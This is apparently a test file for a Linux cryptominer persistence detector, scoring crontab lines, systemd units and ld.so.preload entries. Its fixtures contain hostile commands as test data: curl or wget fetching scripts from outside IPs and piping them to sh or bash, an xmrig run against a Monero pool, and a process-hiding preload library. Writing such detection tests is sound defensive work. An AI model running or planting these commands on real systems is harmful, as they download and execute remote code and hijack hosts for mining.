import { test } from "node:test";
import assert from "node:assert/strict";
import type { Event } from "../../../model/index.js";
import { WEAK_CONFIDENCE } from "../../../model/index.js";
import { runDetector } from "../../../test-helpers/index.js";
import { persistenceDetector } from "./persistence.js";

/** A crontab line as the crontab source writes it (docs/events.md, Collected files). */
function cron(line: number, schedule: string, command: string, file = "/cases/web-01/var/spool/cron/crontabs/root"): Event {
  return {
    "event.dataset": "linux.crontab", "event.category": ["configuration"], "event.kind": "state", "log.file.path": file, "minerhunt.line": line,
    "file.path": "/var/spool/cron/crontabs/root", "host.name": "web-01", "user.name": "root", "minerhunt.cron.schedule": schedule, "process.command_line": command,
  };
}

function unit(name: string, execStart: string, directives: string[]): Event {
  return {
    "event.dataset": "linux.systemd", "event.category": ["configuration"], "event.kind": "state", "log.file.path": `/cases/web-01/etc/systemd/system/${name}`,
    "minerhunt.line": 1, "file.path": `/etc/systemd/system/${name}`, "host.name": "web-01", "minerhunt.systemd.unit": name,
    "process.command_line": execStart, "minerhunt.systemd.directives": [...directives, `ExecStart=${execStart}`],
  };
}

test("cron: the Kinsing-style download-and-run is 0.5, a miner run from cron 0.9+", () => {
  const findings = runDetector(persistenceDetector, [
    cron(3, "*/1 * * * *", "curl -fsSL http://45.9.148.3/x.sh | sh"),
    cron(4, "*/5 * * * *", "(curl -s http://45.9.148.3/ldr.sh||wget -q -O- http://45.9.148.3/ldr.sh)|bash >/dev/null 2>&1"),
    cron(5, "@reboot", "/tmp/.x/xmrig -o pool.supportxmr.com:3333 -B"),
  ]);
  const byLine = new Map(findings.map((f) => [f.evidence[0]!.line, f]));
  assert.equal(byLine.get(3)?.confidence, 0.5);
  assert.equal(byLine.get(4)?.confidence, 0.5);
  assert.ok(byLine.get(3)?.observables.some((o) => o.type === "ip" && o.value === "45.9.148.3"));
  const miner = byLine.get(5)!;
  assert.ok(miner.confidence >= 0.9);
  assert.equal(miner.facts?.["miner.name"], "xmrig");
  assert.deepEqual(miner.entities.pools, ["pool.supportxmr.com"]);
  assert.equal(miner.evidence[0]?.file, "/cases/web-01/var/spool/cron/crontabs/root");
  assert.ok(miner.mitre.includes("T1053.003"));
});

test("cron: campaign and kernel-thread names, and a drop-directory program (weak alone)", () => {
  const [campaign] = runDetector(persistenceDetector, [cron(1, "@reboot", "/root/.swapd/swapd >/dev/null 2>&1")]);
  assert.equal(campaign?.confidence, 0.75);
  const [kthread] = runDetector(persistenceDetector, [cron(2, "* * * * *", "/usr/local/bin/kworker -c /usr/local/etc/k.json")]);
  assert.equal(kthread?.confidence, 0.7);
  const [drop] = runDetector(persistenceDetector, [cron(3, "*/10 * * * *", "/dev/shm/.cache/update")]);
  assert.ok(drop && drop.confidence < WEAK_CONFIDENCE);
  const [both] = runDetector(persistenceDetector, [cron(4, "*/10 * * * *", "wget -q -O- http://198.51.100.9/a | sh; /tmp/.ice-unix/a")]);
  assert.equal(both?.confidence, 0.6, "download-and-run plus a drop-directory program");
});

test("cron traps: backups, health checks, certbot, a rival-killer, tmp cleaners", () => {
  const events = [
    cron(1, "0 3 * * *", "/usr/bin/certbot renew --quiet"),
    cron(2, "*/5 * * * *", "curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/4c5b2f1e-0a7c-4a37-9bd4-0e8a4f0f6d1a"),
    cron(3, "*/5 * * * *", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"),
    cron(4, "*/1 * * * *", "pkill -f xmrig; pkill -f stratum+tcp"),
    cron(5, "0 4 * * *", "tmpreaper 24h /tmp/"),
    cron(6, "30 2 * * *", "wget -q -O /var/backups/blocklist.txt https://example.net/blocklist.txt"),
  ];
  assert.deepEqual(runDetector(persistenceDetector, events).map((f) => f.title), []);
});

test("systemd: MoneroOcean's miner unit, with Nice=10 and CPUWeight=1 as support", () => {
  const [f] = runDetector(persistenceDetector, [unit("moneroocean_miner.service", "/root/moneroocean/xmrig --config=/root/moneroocean/config.json",
    ["Description=Monero miner service", "Nice=10", "CPUWeight=1"])]);
  assert.ok(f);
  assert.equal(f.confidence, 0.95);
  assert.match(String(f.facts?.["persistence.reason"]), /low priority/);
  assert.equal(f.facts?.["persistence.kind"], "systemd");
  // A campaign unit named after its miner.
  const [g] = runDetector(persistenceDetector, [unit("gdm2.service", "-/root/.gdm2/gdm2 --config=/root/.gdm2/config.json", ["Type=simple"])]);
  assert.equal(g?.confidence, 0.75);
});

test("systemd traps: a low-priority backup job and sshd are not miners", () => {
  const events = [
    unit("borg-backup.service", "/usr/bin/borg create /backup::{now} /srv", ["Nice=19", "CPUWeight=1", "IOSchedulingClass=idle"]),
    unit("ssh.service", "/usr/sbin/sshd -D $SSHD_OPTS", ["Restart=on-failure"]),
  ];
  assert.deepEqual(runDetector(persistenceDetector, events).map((f) => f.title), []);
});

test("ld.so.preload: any library is notable, process-hiding ones more so; comments are nothing", () => {
  const preload = (line: number, libs: string[]): Event => ({
    "event.dataset": "linux.ld_so_preload", "event.category": ["configuration"], "event.kind": "state", "log.file.path": "/cases/web-01/etc/ld.so.preload",
    "minerhunt.line": line, "file.path": "/etc/ld.so.preload", "host.name": "web-01", "file.target_path": libs,
  });
  const [hider] = runDetector(persistenceDetector, [preload(1, ["/usr/local/lib/libprocesshider.so"])]);
  assert.equal(hider?.confidence, 0.7);
  assert.ok(hider?.mitre.includes("T1574.006"));
  assert.equal(runDetector(persistenceDetector, [preload(1, ["/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4"])])[0]?.confidence, 0.45);
  assert.equal(runDetector(persistenceDetector, [preload(1, ["/tmp/.ICE-unix/libs.so"])])[0]?.confidence, 0.7);
  assert.equal(runDetector(persistenceDetector, [preload(1, ["# nothing here", ""])]).length, 0);
});

test("routing: collected cron/systemd/preload files only; a process running the same line is the process detectors' job", () => {
  const asProcess: Event = { ...cron(1, "*/1 * * * *", "curl -fsSL http://45.9.148.3/x.sh | sh"), "event.dataset": "ps", "event.category": ["process"] };
  assert.equal(runDetector(persistenceDetector, [asProcess]).length, 0);
});
